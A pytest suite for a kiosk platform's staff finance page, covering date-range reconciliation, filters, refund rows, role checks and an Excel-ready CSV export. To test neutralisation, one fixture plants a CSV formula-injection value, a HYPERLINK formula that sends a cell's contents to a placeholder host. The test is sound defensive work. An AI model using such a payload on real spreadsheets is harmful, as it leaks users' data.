"""The finance page (issue 21, Deliver 5) through a staff browser over real HTTP, on both stores: the
reconciliation over a date range with filters (kiosk, item, status), refunds as rows of their own, and a CSV
that Excel opens (UTF-8 with BOM) where a cell starting with = + - @ cannot become a formula."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from central.config import TZ
from kiosk.platform.schema import ErrorCode
from tests.helpers.staff_browser import Browser, Clock, account, cheap_argon2, code_of, start

ENDORSE = "910000002000"  # 往来港澳通行证签注（再次签注）: 15.00 元
RENEW = "910000003000"  # 往来港澳通行证换发: 60.00 元
EVIL = '=HYPERLINK("http://x.example/?"&A1,"点我")'
_n = iter(range(10_000))


@pytest.fixture(autouse=True, scope="module")
def _cheap_argon2():
    from central.staff import passwords
    saved = passwords._HASHER, passwords._DUMMY
    cheap_argon2()
    yield
    passwords._HASHER, passwords._DUMMY = saved


@pytest.fixture(scope="module")
def platform(tmp_path_factory, central_db):
    clock = Clock(dt.datetime(2026, 3, 12, 10, 0, tzinfo=TZ).timestamp())
    p = start(tmp_path_factory.mktemp("central"), clock, central_db)
    s = p.store
    s.add_kiosk("K-EAST", "secret-east-0123456789", "2026-01-01T09:00:00+08:00", location="东区政务大厅")
    s.add_kiosk("K-EVIL", "secret-evil-0123456789", "2026-01-01T09:00:00+08:00", location=EVIL)
    pay(s, "O-0310-A", "K-EAST", ENDORSE, 1500, "2026-03-10T09:15:00+08:00", reference="A20260310001")
    pay(s, "O-0311-B", "K-EAST", RENEW, 6000, "2026-03-11T14:02:00+08:00", reference="A20260311002")
    pay(s, "O-0311-C", "K-EVIL", ENDORSE, 1500, "2026-03-11T16:40:00+08:00")  # paid, no application
    pay(s, "O-0312-R", "K-EAST", RENEW, 6000, "2026-03-12T09:00:00+08:00", refunded="2026-03-12T09:05:00+08:00")
    pay(s, "O-0301-X", "K-EAST", ENDORSE, 1500, "2026-03-01T11:00:00+08:00", reference="A20260301009")
    yield p
    p.stop()


def pay(store, order_id, kiosk_id, item, fen, paid_at, reference=None, refunded=None) -> None:
    store.create_payment({"order_id": order_id, "kiosk_id": kiosk_id, "application_id": order_id.lower(),
                          "item_code": item, "amount_fen": fen, "status": "pending", "token": order_id + "-t",
                          "created_at": paid_at, "expires_at": 0.0, "expires_at_iso": paid_at})
    cols = {"status": "paid", "paid_at": paid_at, "transaction_id": "T" + order_id}
    if reference:
        cols["reference"] = reference
    if refunded:
        cols.update(status="refunded", refunded_at=refunded)
    store.update_payment(order_id, **cols)


@pytest.fixture(scope="module")
def finance(platform):
    name = account(platform, f"fin{next(_n):04d}", "finance")
    b = Browser(platform.url)
    assert b.login(name).status_code == 303
    return b


def orders(html: str) -> list[str]:
    import re
    return re.findall(r'id="order-([\w-]+)"', html)


def test_the_report_covers_a_date_range_with_refunds_as_rows_of_their_own(finance):
    html = finance.get("/staff/finance?start=2026-03-10&end=2026-03-12").text
    assert orders(html) == ["O-0310-A", "O-0311-B", "O-0311-C", "O-0312-R"]
    assert "已退款 refunded" in html and "−60.00" in html and "未匹配办件 unmatched" in html
    assert "共 <strong>4</strong> 笔" in html and "收款 <strong>90.00</strong> 元" in html
    assert "退款 <strong class=\"overdue\">60.00</strong> 元" in html
    today = finance.get("/staff/finance").text  # no dates: today (2026-03-12 by the platform's clock)
    assert orders(today) == ["O-0312-R"]


@pytest.mark.parametrize("query, expected", [
    ("kiosk=K-EVIL", ["O-0311-C"]),
    (f"item={RENEW}", ["O-0311-B", "O-0312-R"]),
    ("status=refunded", ["O-0312-R"]),
    ("status=matched", ["O-0301-X", "O-0310-A", "O-0311-B"]),
    (f"kiosk=K-EAST&item={ENDORSE}&status=matched", ["O-0301-X", "O-0310-A"]),
    ("status=unmatched", ["O-0311-C"]),
])
def test_filters_by_kiosk_item_and_status(finance, query, expected):
    assert orders(finance.get(f"/staff/finance?start=2026-03-01&end=2026-03-12&{query}").text) == expected


def test_the_csv_opens_in_excel_with_chinese_and_no_cell_becomes_a_formula(finance, platform):
    page = finance.get("/staff/finance?start=2026-03-10&end=2026-03-12&kiosk=K-EVIL").text
    assert 'href="/staff/finance.csv?start=2026-03-10&amp;end=2026-03-12&amp;kiosk=K-EVIL"' in page
    resp = finance.get("/staff/finance.csv?start=2026-03-10&end=2026-03-12")
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    assert 'filename="reconciliation-2026-03-10_2026-03-12.csv"' in resp.headers["content-disposition"]
    assert resp.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    table = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert table[0][0] == "日期 Day" and len(table) == 5
    evil = next(r for r in table if r[2] == "O-0311-C")
    assert evil[4] == "'" + EVIL and evil[6] == "往来港澳通行证签注（再次签注）" and evil[7] == "15.00"
    refunded = next(r for r in table if r[2] == "O-0312-R")
    assert refunded[8] == "已退款 refunded" and refunded[7] == "60.00"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)
    acts = [a for a in platform.store.staff_actions(limit=500) if a["action"] == "finance_csv"]
    assert acts and acts[0]["actor"].startswith("fin")


@pytest.mark.parametrize("query", ["start=2026-13-01", "start=2026-03-12&end=2026-03-10",
                                   "start=2026-01-01&end=2026-12-31"])
def test_a_bad_or_too_long_range_is_refused_with_its_code(finance, query):
    assert code_of(finance.get(f"/staff/finance?{query}")) == ErrorCode.FINANCE_BAD_RANGE


def test_only_finance_sees_the_money(platform):
    for role in ("reviewer", "technician", "supervisor"):
        b = Browser(platform.url)
        assert b.login(account(platform, f"{role[:3]}{next(_n):04d}", role)).status_code == 303
        assert code_of(b.get("/staff/finance")) == ErrorCode.STAFF_ROLE
        assert code_of(b.get("/staff/finance.csv")) == ErrorCode.STAFF_ROLE
    assert Browser(platform.url).get("/staff/finance.csv").headers["location"] == "/staff/login"
